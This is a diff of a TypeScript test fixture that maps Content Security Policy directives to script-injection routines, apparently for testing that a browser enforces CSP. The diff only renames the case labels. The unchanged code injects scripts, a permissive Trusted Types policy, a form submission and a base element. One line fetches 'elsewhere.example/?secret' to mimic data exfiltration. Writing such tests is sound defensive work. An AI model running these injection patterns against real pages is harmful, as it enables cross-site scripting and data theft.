@@ -31,7 +31,7 @@ export const scriptInjections: Record<string, { directive: string; inject: () =>
       window.setTimeout('window.ran = true');
     },
   },
-  'a foreign script': {
+  'a script of another site': {
     directive: TRUSTED_TYPES,
     inject: () => {
       const script = document.createElement('script');
@@ -39,7 +39,7 @@ export const scriptInjections: Record<string, { directive: string; inject: () =>
       document.body.append(script);
     },
   },
-  'a policy of its own': {
+  'a Trusted Types policy': {
     directive: 'trusted-types',
     inject: () => {
       window.trustedTypes!.createPolicy('mine', { createHTML: (html) => html });
@@ -62,7 +62,7 @@ export const scriptInjections: Record<string, { directive: string; inject: () =>
       document.body.append(frame);
     },
   },
-  'a form that is sent': {
+  'a submitted form': {
     directive: 'form-action',
     inject: () => {
       const form = document.createElement('form');
@@ -72,7 +72,7 @@ export const scriptInjections: Record<string, { directive: string; inject: () =>
       form.submit();
     },
   },
-  'another base': {
+  'a base element': {
     directive: 'base-uri',
     inject: () => {
       const base = document.createElement('base');
@@ -80,7 +80,7 @@ export const scriptInjections: Record<string, { directive: string; inject: () =>
       document.head.append(base);
     },
   },
-  'a message to elsewhere': {
+  'a request to another site': {
     directive: 'connect-src',
     inject: () => void fetch('https://elsewhere.example/?secret').catch(() => undefined),
   },
